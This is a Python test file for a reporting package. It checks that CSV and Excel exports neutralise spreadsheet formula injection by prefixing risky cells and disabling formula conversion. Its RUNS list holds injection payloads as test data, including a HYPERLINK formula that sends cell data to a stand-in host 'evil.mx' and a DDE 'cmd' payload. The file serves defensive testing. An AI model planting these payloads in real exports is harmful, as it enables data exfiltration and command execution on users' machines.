"""No file that goes out holds a formula that somebody else wrote: one rule for CSV, and texts as texts in workbooks."""

import ast
from pathlib import Path

import pytest
import sqlalchemy as sa
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from trimestre.reports.evidence import harmless
from trimestre.reports.exporting import HARMLESS

PACKAGE = Path(__file__).resolve().parents[2] / "src" / "trimestre"
RUNS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "＝1+1", "＋1", "－1", "＠SUM(A1)",
    "−1+cmd", "=HYPERLINK(\"http://evil.mx?\"&A1)", "=cmd|'/c calc'!A1", "-", "+52 55 1234", "--1", "-1e5",
]  # fmt: skip
"""What Excel, LibreOffice or an East Asian input takes for the beginning of a formula."""
PLAIN = ["-5", "+52", "-1,5", "1.5", "a=b", "5-3", "López", "", "a@b.mx", "'=1"]

ALLOWED = {
    "cli/figures.py": "harmless",
    "reports/exporting/__init__.py": "harmless",
    "sources/tabular/csv_files.py": None,  # a landed file keeps what came; nobody opens it
    "simulators/files.py": None,
}
"""Modules that write CSV from Python, and what makes them safe."""


def sources() -> list[tuple[str, str, ast.Module]]:
    found = [(path.relative_to(PACKAGE).as_posix(), path.read_text()) for path in sorted(PACKAGE.rglob("*.py"))]
    return [(name, text, ast.parse(text)) for name, text in found]


@pytest.mark.parametrize("text", RUNS)
def test_what_would_run_gets_an_apostrophe(text: str) -> None:
    assert harmless(text) == f"'{text}"


def test_numbers_and_ordinary_texts_stay_as_they_are() -> None:
    assert [harmless(text) for text in PLAIN] == PLAIN
    assert (harmless(-5), harmless(None), harmless(1.5)) == (-5, None, 1.5)


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], max_examples=30)
@given(st.lists(st.text(st.characters(exclude_characters="\0", exclude_categories=["Cs"])), min_size=1, max_size=30))
@example([*RUNS, *PLAIN])
def test_the_database_and_python_judge_alike(warehouse: sa.Engine, texts: list[str]) -> None:
    """A blank that only one of the two knows as one may differ: no spreadsheet skips it."""
    statement = (
        f"SELECT {HARMLESS.format('t')} FROM unnest(CAST(%(texts)s AS text[])) WITH ORDINALITY AS u (t, n) ORDER BY n"
    )
    with warehouse.connect() as connection:
        found = connection.exec_driver_sql(statement, {"texts": texts}).scalars().all()
    known = [text for text in texts if not text[:1].isspace() or text[:1] in " \t\r\n"]
    judged = dict(zip(texts, found, strict=True))
    assert [judged[text] for text in known] == [harmless(text) for text in known]


def test_every_writer_of_csv_is_known_and_safe() -> None:
    writing = {
        name: text
        for name, text, tree in sources()
        for node in ast.walk(tree)
        if isinstance(node, ast.Attribute)
        and (node.attr in {"DictWriter", "to_csv"} or (node.attr == "writer" and ast.unparse(node.value) == "csv"))
    }
    assert set(writing) == set(ALLOWED)
    for name, text in writing.items():
        assert ALLOWED[name] is None or f"{ALLOWED[name]}(" in text, name
    copying = {name: text for name, text, _ in sources() if "from trimestre.warehouse.copying import" in text}
    # The Parquet is read back from CSV by us: types, no spreadsheet.
    assert set(copying) == {"reports/behind.py", "reports/exporting/__init__.py", "reports/exporting/parquet.py"}
    assert all("HARMLESS" in text for name, text in copying.items() if not name.endswith("parquet.py"))


def test_every_workbook_is_told_that_texts_are_texts() -> None:
    made = 0
    for name, _, tree in sources():
        for node in ast.walk(tree):
            if not isinstance(node, ast.Call) or not ast.unparse(node.func).endswith("xlsxwriter.Workbook"):
                continue
            made += 1
            said = ast.unparse(node)
            assert "'strings_to_formulas': False" in said, name
            assert "'strings_to_urls': False" in said, name
    assert made == 4


def test_formulas_are_written_by_the_tracking_table_only() -> None:
    """Its formulas are made of cells' addresses; every other module has no need of any."""
    writing = {name for name, text, _ in sources() if "write_formula(" in text}
    assert writing == {"reports/iptt/sheet.py", "reports/iptt/tracking.py", "reports/iptt/breakdowns.py"}


def test_workbooks_changed_in_place_keep_texts_as_texts() -> None:
    changing = {
        name: text
        for name, text, tree in sources()
        if "openpyxl" in text and not name.startswith("simulators/")
        for node in ast.walk(tree)
        if isinstance(node, ast.Call) and ast.unparse(node.func) == "book.save"
    }
    assert set(changing) == {"pipeline/uploads/drop_files.py", "sources/tabular/xlsx_files.py"}
    assert all('data_type = "s"' in text for text in changing.values())
